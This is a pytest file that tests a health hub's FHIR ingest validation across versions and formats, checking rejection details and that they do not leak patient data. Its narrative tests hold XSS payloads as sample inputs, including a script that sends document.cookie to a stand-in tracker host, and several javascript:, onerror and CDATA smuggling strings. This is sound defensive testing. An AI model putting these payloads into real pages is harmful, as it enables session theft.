"""Malformed FHIR the models let through is ``fhir.invalid`` at ingest (issue 16, item 3).

Resource ids, base64 data, extensions' url and ext-1, duplicated JSON members, narrative XHTML (txt-1,
txt-2, entities) and ele-1 (hub/ingest/fhir_rules.py, hub/ingest/narrative.py), in STU3, R4, R4B and
R5, JSON and XML alike: the detail names the element (``Type.path: phrase``) and never the value. The
valid forms next to each fault are accepted, so no rule refuses what FHIR allows.
"""

from __future__ import annotations

import base64
import copy
import json
import uuid
from collections.abc import Callable
from datetime import datetime
from typing import Any
from zoneinfo import ZoneInfo

import pytest

from hub.errors import ErrorCode
from hub.ingest.decode import ContentType, Decoded, decode
from hub.ingest.outcome import IngestRecord, Rejected
from hub.ingest.pipeline import IngestContext, process_ingest

PARIS = ZoneInfo("Europe/Paris")
VERSIONS = ["3.0", "4.0", "4.3", "5.0"]
FAMILY = "DUPONTEL"  # patient data: never in a detail
XHTML = "http://www.w3.org/1999/xhtml"
# A discharge letter's PDF, short but shaped like one; its base64 holds "+" and "/" (base64url's "-"
# and "_" are the usual mistake).
PDF = (
    b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
    b"\r\n\xfb\xef\xbe\xff\xff\xff\n%%EOF\n"
)
PDF_BASE64 = base64.b64encode(PDF).decode()
#: 64 characters, the most an id may have: the hospital, a UUID, and the patient's number.
LONGEST_ID = f"chu-guadeloupe-{uuid.UUID(int=0x3F2B9C1E5D6A4E8F9B7C0412AB34CD56)}-patient-0412"


def result_of(body: bytes, version: str, media: str = "json") -> Decoded | Rejected:
    return decode(body, ContentType(media, version), default_version="4.0", zone=PARIS)


def json_body(document: dict[str, Any]) -> bytes:
    return json.dumps(document, ensure_ascii=False).encode()


def assert_refused(
    result: Decoded | Rejected, detail: str, *, secret: str = FAMILY, code: ErrorCode = ErrorCode.FHIR_INVALID
) -> None:
    """Refused with ``code`` and exactly ``detail``, which quotes neither the patient nor ``secret``."""
    assert isinstance(result, Rejected), result
    assert (result.code, result.detail) == (code, detail)
    assert FAMILY not in result.detail
    assert secret not in result.detail


def assert_accepted(result: Decoded | Rejected) -> None:
    assert isinstance(result, Decoded), result


def patient(**changes: Any) -> dict[str, Any]:
    """A GP's patient, the same in every version."""
    document: dict[str, Any] = {
        "resourceType": "Patient",
        "id": "pat-000412",
        "identifier": [{"system": "urn:oid:1.2.250.1.71.4.2.7.9999", "value": "IPP-000412"}],
        "name": [{"use": "official", "family": FAMILY, "given": ["Jeanne", "Marie"]}],
        "gender": "female",
        "birthDate": "1969-02-14",
    }
    return document | changes


def observation(**changes: Any) -> dict[str, Any]:
    """A home blood pressure reading, the same in every version."""
    document: dict[str, Any] = {
        "resourceType": "Observation",
        "id": "ta-20240503",
        "status": "final",
        "code": {"coding": [{"system": "http://loinc.org", "code": "8480-6"}], "text": "PA systolique"},
        "subject": {"reference": "Patient/pat-000412"},
        "effectiveDateTime": "2024-05-03T08:15:00+02:00",
        "valueQuantity": {
            "value": 142,
            "unit": "mm[Hg]",
            "system": "http://unitsofmeasure.org",
            "code": "mm[Hg]",
        },
    }
    return document | changes


def discharge_letter(version: str, data: str) -> dict[str, Any]:
    """A DocumentReference carrying the discharge letter's PDF in its attachment, in ``version``'s shape."""
    attachment = {
        "contentType": "application/pdf",
        "language": "fr-FR",
        "data": data,
        "title": "CRH cardiologie",
    }
    document: dict[str, Any] = {
        "resourceType": "DocumentReference",
        "id": "crh-2024-0412",
        "status": "current",
        "type": {"coding": [{"system": "http://loinc.org", "code": "11490-0"}]},
        "subject": {"reference": "Patient/pat-000412"},
        "content": [{"attachment": attachment}],
    }
    # STU3 requires the time it was indexed; R4 and R5 call it date.
    document["indexed" if version == "3.0" else "date"] = "2024-05-03T14:20:00+02:00"
    return document


def xml_patient(inner: str) -> bytes:
    return f'<Patient xmlns="http://hl7.org/fhir"><id value="pat-000412"/>{inner}</Patient>'.encode()


XML_NAME = f'<name><family value="{FAMILY}"/><given value="Jeanne"/></name>'


# --- resource ids ---------------------------------------------------------------------------------


@pytest.mark.parametrize("version", VERSIONS)
@pytest.mark.parametrize(
    ("document", "detail"),
    [
        (patient(id="pat_000412"), "Patient.id: not in the form its type requires"),
        (patient(id=LONGEST_ID + "5"), "Patient.id: too long (an id has at most 64 characters)"),
        (
            observation(contained=[{"resourceType": "Patient", "id": LONGEST_ID + "-b"}]),
            "Observation.contained.0.id: too long (an id has at most 64 characters)",
        ),
        (
            {
                "resourceType": "Bundle",
                "type": "collection",
                "entry": [{"resource": observation()}, {"resource": patient(id=f"{LONGEST_ID}0")}],
            },
            "Bundle.entry.1.resource.id: too long (an id has at most 64 characters)",
        ),
    ],
    ids=["underscore", "65 characters", "contained", "Bundle entry"],
)
def test_a_resource_id_outside_the_id_rule_is_fhir_invalid(
    document: dict[str, Any], detail: str, version: str
) -> None:
    """``[A-Za-z0-9\\-\\.]{1,64}``: fhir.resources checks the characters but allows 255 of them."""
    assert_refused(result_of(json_body(document), version), detail, secret="0412")


@pytest.mark.parametrize("version", VERSIONS)
def test_the_same_ids_in_xml_are_named_alike(version: str) -> None:
    body = xml_patient("").replace(b"pat-000412", f"{LONGEST_ID}5".encode())
    assert_refused(result_of(body, version, "xml"), "Patient.id: too long (an id has at most 64 characters)")
    body = xml_patient("").replace(b"pat-000412", b"pat_000412")
    assert_refused(result_of(body, version, "xml"), "Patient.id: not in the form its type requires")


@pytest.mark.parametrize("version", VERSIONS)
def test_64_characters_and_element_ids_of_any_form_are_accepted(version: str) -> None:
    """The longest resource id passes; an element's id is a string, with no such rule (FHIR's Element.id)."""
    assert len(LONGEST_ID) == 64
    name = {"id": "nom_de_naissance." + "x" * 70, "use": "maiden", "family": "MARTIN"}
    document = patient(id=LONGEST_ID, name=[*patient()["name"], name])
    assert_accepted(result_of(json_body(document), version))


# --- base64Binary ---------------------------------------------------------------------------------

_WRONG_BASE64 = [
    (PDF_BASE64[:-3], "truncated in transfer"),
    (PDF_BASE64.replace("+", "-").replace("/", "_"), "base64url alphabet"),
    (f"data:application/pdf;base64,{PDF_BASE64}", "a data URL instead of the data"),
    (PDF_BASE64[:40] + "%" + PDF_BASE64[41:], "a character outside base64"),
    (PDF_BASE64[:40] + "é" + PDF_BASE64[41:], "a character outside ASCII"),
    (PDF_BASE64[:8] + "==" + PDF_BASE64[10:], "padding inside the data"),
]


@pytest.mark.parametrize("version", VERSIONS)
@pytest.mark.parametrize(("data", "why"), _WRONG_BASE64, ids=[why for _, why in _WRONG_BASE64])
def test_a_corrupted_pdf_attachment_is_fhir_invalid(version: str, data: str, why: str) -> None:
    """pydantic's base64 decoder skips what is not base64: the hub refuses it, with the element's path."""
    assert "+" in PDF_BASE64
    assert "/" in PDF_BASE64
    result = result_of(json_body(discharge_letter(version, data)), version)
    assert_refused(
        result, "DocumentReference.content.0.attachment.data: not valid base64 data", secret=data[:12]
    )


@pytest.mark.parametrize("version", VERSIONS)
def test_base64_in_every_element_of_its_type_is_checked(version: str) -> None:
    """Binary's data (STU3: content) and an extension's valueBase64Binary, found by the models' types."""
    field = "content" if version == "3.0" else "data"
    binary = {
        "resourceType": "Binary",
        "id": "crh-pdf",
        "contentType": "application/pdf",
        field: "JVBERi0x!LjQK",
    }
    assert_refused(result_of(json_body(binary), version), f"Binary.{field}: not valid base64 data")
    signed = {"url": "https://example.org/fhir/StructureDefinition/signature", "valueBase64Binary": "MEUCIQ#"}
    document = observation(extension=[signed])
    assert_refused(
        result_of(json_body(document), version),
        "Observation.extension.0.valueBase64Binary: not valid base64 data",
    )


@pytest.mark.parametrize("version", VERSIONS)
def test_valid_base64_is_accepted_whitespace_and_line_breaks_included(version: str) -> None:
    """The spec's regex lets whitespace stand between the characters: MIME's 76-column lines pass."""
    wrapped = "\r\n".join(PDF_BASE64[n : n + 76] for n in range(0, len(PDF_BASE64), 76))
    assert "\r\n" in wrapped
    for data in (PDF_BASE64, wrapped):
        assert_accepted(result_of(json_body(discharge_letter(version, data)), version))


@pytest.mark.parametrize("version", VERSIONS)
def test_corrupted_base64_in_xml_is_named_alike(version: str) -> None:
    field = "content" if version == "3.0" else "data"
    body = (
        f'<Binary xmlns="http://hl7.org/fhir"><id value="crh-pdf"/><contentType value="application/pdf"/>'
        f'<{field} value="{PDF_BASE64[:-3]}"/></Binary>'
    ).encode()
    assert_refused(result_of(body, version, "xml"), f"Binary.{field}: not valid base64 data")


# --- extensions -----------------------------------------------------------------------------------

_MEASURED_AT_HOME = {"valueCodeableConcept": {"text": "automesure tensionnelle"}}
_EXTENSION_URL = "https://hl7.fr/ig/fhir/core/StructureDefinition/fr-core-observation-context"


@pytest.mark.parametrize("version", VERSIONS)
@pytest.mark.parametrize(
    ("change", "detail"),
    [
        ({"extension": [_MEASURED_AT_HOME]}, "Observation.extension.0.url: required element missing"),
        ({"extension": [{"url": "", **_MEASURED_AT_HOME}]}, "Observation.extension.0.url: must not be empty"),
        (
            {"modifierExtension": [_MEASURED_AT_HOME]},
            "Observation.modifierExtension.0.url: required element missing",
        ),
        (
            {"_status": {"extension": [{"url": "", "valueString": "saisie patient"}]}},
            "Observation._status.extension.0.url: must not be empty",
        ),
        (
            {
                "extension": [
                    {
                        "url": _EXTENSION_URL,
                        **_MEASURED_AT_HOME,
                        "extension": [{"url": "device", "valueString": "x"}],
                    }
                ]
            },
            "Observation.extension.0: has both a value and extensions (give one or the other)",
        ),
        (
            {"extension": [{"url": _EXTENSION_URL}]},
            "Observation.extension.0: has neither a value nor extensions",
        ),
        (
            {"extension": [{"url": _EXTENSION_URL, "extension": [{"url": "device"}]}]},
            "Observation.extension.0.extension.0: has neither a value nor extensions",
        ),
    ],
    ids=[
        "url missing",
        "url empty",
        "modifier url missing",
        "on a primitive",
        "value and extensions",
        "neither",
        "nested",
    ],
)
def test_an_extension_without_url_or_against_ext_1_is_fhir_invalid(
    version: str, change: dict[str, Any], detail: str
) -> None:
    assert_refused(result_of(json_body(observation(**change)), version), detail)


@pytest.mark.parametrize("version", VERSIONS)
def test_extensions_in_xml_are_named_alike(version: str) -> None:
    observed = (
        '<Observation xmlns="http://hl7.org/fhir">{}<status value="final"/>'
        '<code><text value="PA systolique"/></code></Observation>'
    )
    no_url = '<extension><valueString value="automesure"/></extension>'
    assert_refused(
        result_of(observed.format(no_url).encode(), version, "xml"),
        "Observation.extension.0.url: required element missing",
    )
    empty = f'<extension url="{_EXTENSION_URL}"/>'
    assert_refused(
        result_of(observed.format(empty).encode(), version, "xml"),
        "Observation.extension.0: has neither a value nor extensions",
    )


@pytest.mark.parametrize("version", VERSIONS)
def test_well_formed_extensions_are_accepted(version: str) -> None:
    """A value, or child extensions each with a value; a primitive's extension beside its value."""
    nested = {"url": _EXTENSION_URL, "extension": [{"url": "device", "valueString": "tensiomètre"}]}
    document = observation(
        extension=[{"url": _EXTENSION_URL, **_MEASURED_AT_HOME}, nested],
        _status={"extension": [{"url": "https://example.org/fhir/source", "valueString": "saisie patient"}]},
    )
    assert_accepted(result_of(json_body(document), version))


# --- duplicated JSON members ----------------------------------------------------------------------


def _with_member_twice(document: dict[str, Any], inside: list[str | int], name: str, value: Any) -> bytes:
    """The JSON text of ``document`` with ``name`` given a second time, with ``value``, in the object at
    ``inside`` (json.dumps cannot write that; the text is spliced)."""
    marker = "__twice__"
    changed = copy.deepcopy(document)
    target: Any = changed
    for step in inside:
        target = target[step]
    target[marker] = value
    text = json.dumps(changed, ensure_ascii=False)
    return text.replace(f'"{marker}"', f'"{name}"').encode()


@pytest.mark.parametrize("version", VERSIONS)
@pytest.mark.parametrize(
    ("document", "twice", "detail"),
    [
        (patient(), ([], "gender", "male"), "Patient.gender"),
        (patient(), ([], "gender", "female"), "Patient.gender"),
        (patient(), (["name", 0], "family", "MARTIN"), "Patient.name.0.family"),
        (observation(), (["valueQuantity"], "value", 14.2), "Observation.valueQuantity.value"),
        (
            {"resourceType": "Bundle", "type": "collection", "entry": [{"resource": patient()}]},
            (["entry", 0, "resource"], "birthDate", "1996-02-14"),
            "Bundle.entry.0.resource.birthDate",
        ),
    ],
    ids=["gender", "same value twice", "nested", "a number", "in an entry"],
)
def test_a_member_named_twice_is_fhir_invalid(
    version: str, document: dict[str, Any], twice: tuple[list[str | int], str, Any], detail: str
) -> None:
    """json.loads keeps the last value silently; FHIR JSON forbids the duplicate, whatever its value."""
    body = _with_member_twice(document, *twice)
    assert body.count(f'"{twice[1]}"'.encode()) >= 2
    result = result_of(body, version)
    assert_refused(
        result, f"{detail}: must not repeat (a JSON object names each member once)", secret="MARTIN"
    )


def test_a_duplicate_reaches_the_receipt_as_fhir_invalid(
    make_record: Callable[..., IngestRecord], context: IngestContext, now: datetime
) -> None:
    """Through the whole ingest core: the reject names the member."""
    record = make_record(_with_member_twice(patient(), [], "gender", "male"))
    outcome = process_ingest(record, context, now=now)
    assert isinstance(outcome, Rejected)
    assert (outcome.code, outcome.detail) == (
        ErrorCode.FHIR_INVALID,
        "Patient.gender: must not repeat (a JSON object names each member once)",
    )


@pytest.mark.parametrize("version", VERSIONS)
def test_a_primitive_and_its_underscore_sibling_are_two_members(version: str) -> None:
    """``birthDate`` and ``_birthDate`` (the value and its extensions) are FHIR JSON, not a duplicate."""
    exact = {
        "url": "http://hl7.org/fhir/StructureDefinition/patient-birthTime",
        "valueDateTime": "1969-02-14T06:30:00+01:00",
    }
    assert_accepted(result_of(json_body(patient(_birthDate={"extension": [exact]})), version))


# --- narrative -------------------------------------------------------------------------------------


def _div(inner: str) -> str:
    return f'<div xmlns="{XHTML}">{inner}</div>'


_PATIENT_TEXT = f"<p>Jeanne <b>{FAMILY}</b>, née le 14/02/1969</p>"
_BAD_NARRATIVES = [
    (
        _div(_PATIENT_TEXT + "<script>fetch('https://tracker.example/'+document.cookie)</script>"),
        "holds an element narrative may not use (script)",
    ),
    (
        _div(f'<p onclick="alert(1)">Jeanne {FAMILY}</p>'),
        "holds an event attribute (no scripts in narrative)",
    ),
    (_div(f'<p><a href="javascript:alert(1)">{FAMILY}</a></p>'), "holds a script URL"),
    (_div(f'<p><a href=" Java\tScript:alert(1)">{FAMILY}</a></p>'), "holds a script URL"),
    (_div(f'<p><img src="javascript:alert(1)"/>{FAMILY}</p>'), "holds a script URL"),
    (
        _div(f'<p><a href="data:text/html;base64,PHNjcmlwdD4=">{FAMILY}</a></p>'),
        "holds a data URL outside an image",
    ),
    (_div(f'<p style="width: expression(alert(1))">{FAMILY}</p>'), "holds a style with a script"),
    (
        _div(f'<iframe src="https://example.org/dossier"/><p>{FAMILY}</p>'),
        "holds an element narrative may not use (iframe)",
    ),
    (
        _div(f'<form action="https://example.org"><p>{FAMILY}</p></form>'),
        "holds an element narrative may not use (form)",
    ),
    (
        _div(f"<p>{FAMILY}</p><style>p {{color: red}}</style>"),
        "holds an element narrative may not use (style)",
    ),
    (_div(f"<p><blink>{FAMILY}</blink></p>"), "holds an element narrative may not use"),
    (_div(f'<p><font color="red">{FAMILY}</font></p>'), "holds an element narrative may not use (font)"),
    (
        _div(f'<p xmlns:svg="http://www.w3.org/2000/svg"><svg:svg/>{FAMILY}</p>'),
        "holds an element outside XHTML",
    ),
    (_div(f'<p data-patient="{FAMILY}">x</p>'), "holds an attribute narrative may not use"),
    (
        _div("Doliprane&reg; 1000 mg, 3 fois par jour"),
        "uses an entity XHTML does not have (write the character, or a numeric reference)",
    ),
    (
        _div(f"{FAMILY}&nbsp;Jeanne"),
        "uses an entity XHTML does not have (write the character, or a numeric reference)",
    ),
    # What XML reads as text, an HTML parser reads as a comment ending at the first ">", then markup.
    (_div(f"<p>{FAMILY}</p><![CDATA[><img src=x onerror=alert(1)>]]>"), "holds a CDATA section"),
    (_div(f"<p>{FAMILY}</p><?x ><img src=x onerror=alert(1)>?>"), "holds a processing instruction"),
    (_div(f"<p>{FAMILY}<br></p>"), "not well-formed XHTML"),
    (f"<p>{FAMILY}</p>", "must be a div in the XHTML namespace"),
    (f"<div>{FAMILY}</div>", "must be a div in the XHTML namespace"),
    (f'<!DOCTYPE div [<!ENTITY nom "{FAMILY}">]>' + _div("&nom;"), "must not hold a DOCTYPE"),
    (_div("<p>  </p>\n  <table><tr><td> </td></tr></table>"), "has no text"),
]


@pytest.mark.parametrize("version", VERSIONS)
@pytest.mark.parametrize(("div", "phrase"), _BAD_NARRATIVES, ids=[phrase for _, phrase in _BAD_NARRATIVES])
def test_a_narrative_a_gp_software_should_not_show_is_fhir_invalid(
    version: str, div: str, phrase: str
) -> None:
    """txt-1 (basic HTML only: no script, event attribute, form, frame...), txt-2 (some text), XML's
    entities only, an XHTML div: the narrative is shown as it stands in a GP's software."""
    document = patient(text={"status": "generated", "div": div})
    assert_refused(result_of(json_body(document), version), f"Patient.text.div: {phrase}")


@pytest.mark.parametrize("version", VERSIONS)
def test_a_narrative_with_a_lone_surrogate_is_fhir_invalid(version: str) -> None:
    """JSON can escape half a UTF-16 pair ("\\ud800"), which is no character: no XML holds it."""
    document = patient(text={"status": "generated", "div": _div(f"<p>{FAMILY} \ud800</p>")})
    body = json.dumps(document).encode()  # ASCII, the surrogate escaped
    assert_refused(result_of(body, version), "Patient.text.div: not well-formed XHTML")


_GOOD_NARRATIVES = [
    _div(_PATIENT_TEXT),
    _div("<p>Doliprane&#174; 1000 mg &amp; Spasfon®</p>"),
    _div(
        '<table class="grid"><thead><tr><th>Date</th><th>PA</th></tr></thead>'
        '<tbody><tr><td>03/05</td><td style="color: red">142/91 mm[Hg]</td></tr></tbody></table>'
    ),
    _div('<p><a href="#ta-20240503">mesure</a> et <a href="https://hl7.fr/ig/fhir/core/">FR Core</a></p>'),
    _div('<p><img src="data:image/png;base64,iVBORw0KGgo=" alt="courbe"/></p>'),
    f'<div xmlns="{XHTML}" xml:lang="fr" lang="fr"><div xml:lang="en" lang="en"><p>Jeanne</p></div></div>',
]


@pytest.mark.parametrize("version", VERSIONS)
@pytest.mark.parametrize(
    "div", _GOOD_NARRATIVES, ids=["paragraph", "entities", "table", "links", "image", "lang"]
)
def test_a_narrative_of_basic_html_is_accepted(version: str, div: str) -> None:
    document = patient(text={"status": "generated", "div": div})
    assert_accepted(result_of(json_body(document), version))


@pytest.mark.parametrize("version", VERSIONS)
@pytest.mark.parametrize(
    ("div", "phrase"),
    [
        (
            _div(f"<p>{FAMILY}</p><script>alert(1)</script>"),
            "holds an element narrative may not use (script)",
        ),
        (
            _div(f'<p onmouseover="alert(1)">{FAMILY}</p>'),
            "holds an event attribute (no scripts in narrative)",
        ),
        (_div(f'<h:a xmlns:h="{XHTML}" href="javascript:alert(1)">{FAMILY}</h:a>'), "holds a script URL"),
        (_div("<p> </p>"), "has no text"),
    ],
    ids=["script", "event attribute", "prefixed link", "no text"],
)
def test_the_same_narratives_in_xml_are_named_alike(version: str, div: str, phrase: str) -> None:
    body = xml_patient(f'<text><status value="generated"/>{div}</text>{XML_NAME}')
    assert_refused(result_of(body, version, "xml"), f"Patient.text.div: {phrase}")


@pytest.mark.parametrize("version", VERSIONS)
def test_an_html_entity_in_an_xml_body_makes_it_malformed_xml(version: str) -> None:
    """In XML the narrative is part of the body, which an undeclared entity makes not well-formed: the
    detail says what to write instead, without the entity's name."""
    body = xml_patient(f'<text><status value="generated"/>{_div("Doliprane&reg; 1000 mg")}</text>{XML_NAME}')
    result = result_of(body, version, "xml")
    assert isinstance(result, Rejected)
    assert result.code is ErrorCode.PAYLOAD_MALFORMED
    assert result.detail.startswith("body is not well-formed XML: it uses an entity XML does not have")
    assert "reg;" not in result.detail
    assert_accepted(result_of(body.replace(b"&reg;", b"&#174;"), version, "xml"))


# --- ele-1: a value or children ---------------------------------------------------------------------


@pytest.mark.parametrize("version", VERSIONS)
@pytest.mark.parametrize(
    ("change", "detail"),
    [
        ({"_active": {"id": "dossier-actif"}}, "Patient.active: has neither a value nor extensions"),
        ({"_birthDate": {}}, "Patient._birthDate: must not be empty (leave the element out)"),
        ({"name": [{"id": "nom-usage"}]}, "Patient.name.0: has nothing but an id (leave the element out)"),
        ({"name": [{}]}, "Patient.name.0: must not be empty (leave the element out)"),
        (
            {"telecom": [{"system": "phone", "value": ""}]},
            "Patient.telecom.0.value: must not be empty (leave the element out)",
        ),
        (
            {"identifier": [{"system": "", "value": "IPP-000412"}]},
            "Patient.identifier.0.system: must not be empty (leave the element out)",
        ),
        (
            {"name": [{"family": FAMILY, "given": ["Jeanne", None], "_given": [None, {"id": "g2"}]}]},
            "Patient.name.0.given.1: has neither a value nor extensions",
        ),
        (
            {"name": [{"family": FAMILY, "given": ["Jeanne", ""]}]},
            "Patient.name.0.given.1: must not be empty (leave the element out)",
        ),
    ],
    ids=[
        "primitive with an id only",
        "primitive's object empty",
        "element with an id only",
        "element empty",
        "empty string",
        "empty uri",
        "repeated primitive with an id only",
        "empty string in a list",
    ],
)
def test_an_element_with_neither_value_nor_children_is_fhir_invalid(
    version: str, change: dict[str, Any], detail: str
) -> None:
    assert_refused(result_of(json_body(patient(**change)), version), detail)


@pytest.mark.parametrize("version", VERSIONS)
@pytest.mark.parametrize(
    ("inner", "detail"),
    [
        ("<birthDate/>", "Patient.birthDate: has neither a value nor extensions"),
        ('<birthDate id="naissance"/>', "Patient.birthDate: has neither a value nor extensions"),
        ("<name/>", "Patient.name.1: must not be empty (leave the element out)"),
        ('<name id="nom-usage"/>', "Patient.name.1: has nothing but an id (leave the element out)"),
        (
            '<name><family value=""/></name>',
            "Patient.name.1.family: must not be empty (leave the element out)",
        ),
    ],
    ids=[
        "empty primitive",
        "primitive with an id only",
        "empty element",
        "element with an id only",
        "empty value",
    ],
)
def test_empty_xml_elements_are_named_like_json(version: str, inner: str, detail: str) -> None:
    assert_refused(result_of(xml_patient(XML_NAME + inner), version, "xml"), detail)


@pytest.mark.parametrize("version", VERSIONS)
def test_ids_beside_values_and_aligned_extensions_are_accepted(version: str) -> None:
    """An id next to a value, and a null value whose place in ``_given`` has an extension, keep ele-1."""
    nickname = {
        "extension": [
            {"url": "http://hl7.org/fhir/StructureDefinition/iso21090-EN-qualifier", "valueCode": "CL"}
        ]
    }
    document = patient(
        _birthDate={"id": "naissance"},
        name=[{"family": FAMILY, "given": ["Jeanne", None], "_given": [{"id": "g1"}, nickname]}],
    )
    assert_accepted(result_of(json_body(document), version))
    body = xml_patient(f'{XML_NAME}<birthDate id="naissance" value="1969-02-14"/>')
    assert_accepted(result_of(body, version, "xml"))
